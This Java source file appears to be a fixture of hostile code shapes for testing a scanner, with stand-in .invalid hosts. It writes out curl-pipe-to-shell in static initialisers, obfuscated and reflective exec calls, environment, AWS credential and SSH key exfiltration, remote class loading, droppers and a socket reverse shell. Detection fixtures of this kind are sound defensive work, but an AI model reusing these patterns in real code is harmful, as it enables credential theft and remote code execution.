// Inert shapes: hosts below .invalid, commands that are true. The classes beside this file are what
// javac makes of it: javac --release 8 Shapes.java (Recipes.java: --release 17), without -g.
import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

class PipeToShell {
    static {
        try {
            Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", "curl -s https://c.example.invalid/x | sh"});
        } catch (IOException e) {
        }
    }
}

class BuilderOfLetters {
    void go() throws Exception {
        char[] letters = {'c', 'u', 'r', 'l', ' ', '-', 's', ' ', 'h', 't', 't', 'p', ':', '/', '/', 'c', '.', 'i', 'n', 'v', 'a', 'l', 'i', 'd', ' ', '|', ' ', 's', 'h'};
        List<String> words = new ArrayList<>();
        words.add("sh");
        words.add("-c");
        words.add(new String(letters));
        new ProcessBuilder(words).redirectErrorStream(true).start();
    }
}

class LoopOfNumbers {
    static String open(int[] shut) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < shut.length; i++) {
            out.append((char) (shut[i] ^ 7));
        }
        return out.toString();
    }

    public static void main(String[] args) throws Exception {
        Runtime.getRuntime().exec(open(new int[] {115, 117, 114, 98}));
    }
}

class ByReflection {
    void go() throws Exception {
        Class<?> of = Class.forName("java.lang." + "Runtime");
        Object at = of.getMethod("getRuntime").invoke(null);
        of.getMethod(new StringBuilder("cexe").reverse().toString(), String.class).invoke(at, "true");
    }
}

class EnvironmentAway {
    void go() throws Exception {
        HttpURLConnection to = (HttpURLConnection) new URL("https://c.example.invalid/i").openConnection();
        to.setRequestMethod("POST");
        to.setDoOutput(true);
        to.getOutputStream().write(System.getenv().toString().getBytes());
        to.getResponseCode();
    }
}

class HeaderAway {
    static {
        try {
            URLConnection to = new URL("https://c.example.invalid/i").openConnection();
            to.setRequestProperty("X-Data", new String(Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".aws", "credentials"))));
            to.getInputStream().close();
        } catch (Exception e) {
        }
    }
}

class DecodedLoader extends ClassLoader {
    Class<?> go() {
        byte[] body = Base64.getDecoder().decode("yv66vmluZXJ0");
        return defineClass(null, body, 0, body.length);
    }
}

class RemoteLoader {
    void go() throws Exception {
        URLClassLoader from = new URLClassLoader(new URL[] {new URL("https://c.example.invalid/p.jar")});
        from.loadClass("Main").getMethod("main").invoke(null);
    }
}

class Dropper {
    void go() throws Exception {
        File to = new File(System.getProperty("java.io.tmpdir"), "a.sh");
        try (InputStream in = new URL("http://c.example.invalid/a").openStream()) {
            Files.copy(in, to.toPath());
        }
        new ProcessBuilder("sh", to.getPath()).start();
    }
}

class Streamed {
    void go() throws Exception {
        InputStream in = new URL("http://c.example.invalid/a").openStream();
        FileOutputStream out = new FileOutputStream("/tmp/.a");
        byte[] part = new byte[512];
        int n;
        while ((n = in.read(part)) > 0) {
            out.write(part, 0, n);
        }
        out.close();
        Runtime.getRuntime().exec("/tmp/.a");
    }
}

class ShellOverSocket {
    void go() throws Exception {
        Socket to = new Socket("c.example.invalid", 4444);
        BufferedReader in = new BufferedReader(new InputStreamReader(to.getInputStream()));
        String line;
        while ((line = in.readLine()) != null) {
            Process p = Runtime.getRuntime().exec(line);
            to.getOutputStream().write(p.getInputStream().read());
        }
    }
}

class InLambda {
    static {
        new Thread(() -> {
            try {
                Runtime.getRuntime().exec("true");
            } catch (IOException e) {
            }
        }).start();
    }
}

class Choice {
    void go(boolean a) throws Exception {
        String[] line;
        if (a) {
            line = new String[] {"cmd", "/c", "true"};
        } else {
            line = new String[] {"sh", "-c", "true"};
        }
        Runtime.getRuntime().exec(line);
    }
}

class KeyInDns {
    void go() throws Exception {
        String key = new String(Files.readAllBytes(Paths.get(System.getProperty("user.home") + "/.ssh/id_rsa")));
        InetAddress.getByName(key.substring(0, 9) + ".c.example.invalid");
    }
}

class Harmless {
    private final Map<String, String> words = new HashMap<>();

    String read(String name) throws IOException {
        return words.computeIfAbsent(name, n -> {
            try {
                return new String(Files.readAllBytes(Paths.get(n)));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }
}
